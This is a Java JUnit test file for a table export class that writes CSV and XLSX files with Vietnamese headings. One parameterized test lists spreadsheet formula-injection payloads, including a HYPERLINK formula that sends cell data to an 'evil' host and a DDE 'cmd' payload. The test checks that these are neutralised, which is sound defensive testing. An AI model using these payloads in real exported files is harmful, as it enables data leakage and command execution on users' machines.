package vn.danchu.platform.imports;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.util.List;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class TableExportTest {
    private static final List<String> HEADING = List.of("Số hộ", "Họ và tên đại diện", "Số định danh cá nhân");

    @Test
    void csvCarriesTheMarkByWhichExcelKnowsTheAccents() {
        byte[] file = TableExport.csv(HEADING, List.of(List.of("H1", "Hoàng, Ấn", "000999000001")));

        assertEquals("\uFEFFSố hộ,Họ và tên đại diện,Số định danh cá nhân\r\nH1,\"Hoàng, Ấn\",000999000001\r\n",
                new String(file, UTF_8));
    }

    @ParameterizedTest
    @ValueSource(strings = {"=1+1", "+84", "-5", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "＝1+1",
        "=HYPERLINK(\"http://evil?x=\"&A1)", "=cmd|' /C calc'!A0"})
    void whatLooksLikeAFormulaStaysAText(String text) {
        String line = new String(TableExport.csv(HEADING, List.of(List.of(text, "An", "1"))), UTF_8).split("\r\n",
                2)[1];

        assertTrue(line.startsWith("'") || line.startsWith("\"'"), line);
    }

    @Test
    void whatWasExportedIsReadBackTheSame() {
        List<List<String>> rows = List.of(List.of("=H1", "-Hoàng, \"Ấn\"", "000999000001"),
                List.of("'H2", "@An; Bình", "000999000002"));
        List<String> read = List.of("=H1|-Hoàng, \"Ấn\"|000999000001", "'H2|@An; Bình|000999000002");

        assertEquals(read, Lists.read(TableExport.csv(HEADING, rows)));
        assertEquals(read, Lists.read(TableExport.xlsx("Danh sách", HEADING, rows)));
    }

    @Test
    void anEmptyTableHasItsHeading() {
        assertEquals("The file has a heading and nothing else",
                Lists.refusal(TableExport.xlsx("Danh sách", HEADING, List.of())).detail().en());
    }
}
